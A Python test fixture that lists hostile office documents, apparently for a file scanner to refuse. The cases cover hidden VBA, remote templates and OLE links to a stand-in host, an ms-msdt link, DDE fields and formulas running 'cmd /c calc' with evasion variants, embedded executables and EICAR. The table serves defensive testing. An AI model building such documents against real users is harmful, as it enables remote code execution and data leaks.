"""The table of office documents that do something, or hide something."""

from collections.abc import Callable

from tests.builders import good_files as good
from tests.builders import hostile_contents as made
from tests.builders.good_files import unzipped
from tests.builders.hostile_office import (
    OLE,
    RELATIONS,
    VBA,
    commented,
    external_link,
    field,
    formula,
    header_with,
    in_body,
    linked,
    nested,
    open_text,
    padded_zip,
    related,
    retyped,
    simple_field,
    template,
    with_inner,
    word,
)
from tests.builders.hostile_pdfs import EICAR

UNC = "file:///\\\\host.example\\share\\"

ACTS: list[tuple[str, str, Callable[[], bytes], str]] = [
    (
        "VBA under another name",
        "p.docx",
        lambda: word("theme", "theme/theme9.xml", **{"word__theme__theme9.xml": VBA}),
        "macros",
    ),
    (
        "VBA by its relation",
        "p.docx",
        lambda: word("vbaProject", "data.xml", **{"word__data.xml": b"<a/>"}),
        "macros",
    ),
    (
        "VBA by its type",
        "p.docx",
        lambda: retyped("word/a.xml", "application/vnd.ms-office.vbaProject", b"<a/>"),
        "macros",
    ),
    (
        "VBA as a picture",
        "p.docx",
        lambda: word("image", "media/a.png", **{"word__media__a.png": VBA}),
        "macros",
    ),
    ("VBA in an inner document", "p.docx", lambda: with_inner(made.macro_excel()), "macros"),
    (
        "menu with macros",
        "p.docx",
        lambda: word("ui/extensibility", "a.xml", **{"word__a.xml": b"<a/>"}),
        "macros",
    ),
    ("remote template", "p.docx", lambda: template("https://host.example/a.dotm"), "fetches"),
    ("template on a network", "p.docx", lambda: template(UNC + "a.dotm"), "fetches"),
    (
        "template on a network, encoded",
        "p.docx",
        lambda: template("file:///%5C%5Chost.example%5Ca.dotm"),
        "fetches",
    ),
    (
        "template by another namespace",
        "p.docx",
        lambda: related(
            good.docx(),
            "word/_rels/settings.xml.rels",
            "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
            "http://host.example/a",
        ),
        "fetches",
    ),
    ("remote OLE link", "p.docx", lambda: linked("oleObject", "https://host.example/a.doc!"), "fetches"),
    (
        "script by OLE link",
        "p.docx",
        lambda: linked("oleObject", "mhtml:https://host.example/a!x-usc:a"),
        "fetches",
    ),
    ("remote frame", "p.docx", lambda: linked("frame", "https://host.example/a"), "fetches"),
    ("remote picture", "p.docx", lambda: linked("image", "https://host.example/a.png"), "fetches"),
    ("link to a network", "p.docx", lambda: linked("hyperlink", "\\\\host.example\\share"), "fetches"),
    ("link that starts a program", "p.docx", lambda: linked("hyperlink", "ms-msdt:/id"), "fetches"),
    (
        "remote part of a document",
        "p.docx",
        lambda: linked("subDocument", "https://host.example/a.docx"),
        "fetches",
    ),
    (
        "data connection",
        "r.xlsx",
        lambda: related(
            good.xlsx(), "xl/_rels/workbook.xml.rels", f"{RELATIONS}/connections", "connections.xml", False
        ),
        "fetches",
    ),
    (
        "DDE in a field",
        "p.docx",
        lambda: in_body(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
        "dde",
    ),
    ("DDE split over runs", "p.docx", lambda: in_body(field(" D", "DE", "AUTO cmd ", '"/c calc"')), "dde"),
    ("DDE in small letters", "p.docx", lambda: in_body(field(' "dde" cmd "/c calc"')), "dde"),
    ("DDE in a simple field", "p.docx", lambda: in_body(simple_field("DDE cmd &quot;/c calc&quot;")), "dde"),
    ("DDE spelt by numbers", "p.docx", lambda: in_body(nested()), "dde"),
    ("DDE in a header", "p.docx", lambda: header_with(field("DDEAUTO cmd")), "dde"),
    (
        "DDE without an end",
        "p.docx",
        lambda: in_body("<w:p><w:r><w:instrText>DDE cmd</w:instrText></w:r></w:p>"),
        "dde",
    ),
    (
        "text from elsewhere",
        "p.docx",
        lambda: in_body(field('INCLUDETEXT "https://host.example/a"')),
        "fetches",
    ),
    (
        "picture on a network",
        "p.docx",
        lambda: in_body(field('INCLUDEPICTURE "\\\\\\\\host.example\\\\a.png"')),
        "fetches",
    ),
    (
        "OLE link in a field",
        "p.docx",
        lambda: in_body(field('LINK Word.Document "https://host.example/a" ""')),
        "fetches",
    ),
    (
        "embedded OLE object",
        "p.docx",
        lambda: word("oleObject", "embeddings/oleObject1.bin", **{"word__embeddings__oleObject1.bin": OLE}),
        "files-inside",
    ),
    (
        "OLE object as a picture",
        "p.docx",
        lambda: word("image", "media/a.emf", **{"word__media__a.emf": OLE}),
        "files-inside",
    ),
    (
        "program as a picture",
        "p.docx",
        lambda: word("image", "media/a.png", **{"word__media__a.png": b"MZ\x90\0"}),
        "files-inside",
    ),
    (
        "page of another kind inside",
        "p.docx",
        lambda: word("aFChunk", "a.html", **{"word__a.html": b"<p>"}),
        "files-inside",
    ),
    (
        "ActiveX",
        "p.docx",
        lambda: word("control", "activeX/activeX1.xml", **{"word__activeX__activeX1.xml": b"<a/>"}),
        "activex",
    ),
    (
        "ActiveX by its data",
        "p.docx",
        lambda: made.docx_with(**{"word__activeX__activeX1.bin": b"\0"}),
        "activex",
    ),
    (
        "ActiveX by its type",
        "p.docx",
        lambda: retyped("word/a.xml", "application/vnd.ms-office.activeX+xml", b"<a/>"),
        "activex",
    ),
    ("part of no list", "p.docx", lambda: made.docx_with(**{"word__run.js": b"a()"}), "odd-parts"),
    (
        "relation of no list",
        "p.docx",
        lambda: word("surprise", "a.xml", **{"word__a.xml": b"<a/>"}),
        "odd-parts",
    ),
    (
        "type of no list",
        "p.docx",
        lambda: retyped("word/a.xml", "application/x-msdownload", b"<a/>"),
        "odd-parts",
    ),
    ("DDE in a formula", "r.xlsx", lambda: formula("cmd|'/C calc'!A0"), "dde"),
    ("DDE in signs", "r.xlsx", lambda: formula("cmd&#124;'/C calc'!A0"), "dde"),
    ("DDE in 16 bits", "r.xlsx", lambda: formula("cmd|'/C calc'!A0", "utf-16"), "dde"),
    ("DDE as a function", "r.xlsx", lambda: formula('DDE("cmd","/C calc","a")'), "dde"),
    ("data from the web", "r.xlsx", lambda: formula('_xlfn.WEBSERVICE("https://host.example")'), "dde"),
    ("DDE link", "r.xlsx", lambda: external_link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "dde"),
    (
        "DDE in .ods",
        "b.ods",
        lambda: made.changed(
            good.ods(),
            {
                "content.xml": unzipped(good.ods())["content.xml"].replace(
                    b"<table:table-cell/>",
                    b'<table:table-cell table:formula=\'of:=DDE("cmd";"/C calc";"a")\'/>',
                )
            },
        ),
        "dde",
    ),
    ("OLE object in .odt", "s.odt", lambda: open_text("", "Object 1"), "files-inside"),
    (
        "script of an event in .odt",
        "s.odt",
        lambda: open_text('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
        "macros",
    ),
    (
        "remote picture in .odt",
        "s.odt",
        lambda: open_text('<draw:image xlink:href="https://host.example/a.png"/>'),
        "fetches",
    ),
    (
        "link to a network in .odt",
        "s.odt",
        lambda: open_text('<text:a xlink:href="file://host.example/a">a</text:a>'),
        "fetches",
    ),
    ("plug-in in .odt", "s.odt", lambda: open_text('<draw:plugin xlink:href="a"/>'), "files-inside"),
    ("bytes behind a document", "p.docx", lambda: good.docx() + b"hidden", "appended"),
    ("a remark behind a document", "p.docx", lambda: commented(good.docx()), "appended"),
    ("bytes inside a document", "p.docx", lambda: padded_zip(good.docx()), "odd-parts"),
    (
        "scanner's test in a document",
        "p.docx",
        lambda: made.docx_with(**{"word__comments.xml": b"<a>" + EICAR + b"</a>"}),
        "malware",
    ),
    (
        "scanner's test in a workbook",
        "r.xlsx",
        lambda: made.changed(good.xlsx(), {"xl/sharedStrings.xml": EICAR}),
        "malware",
    ),
]
"""Why, the name of the file, how it is made, and the code of its refusal."""
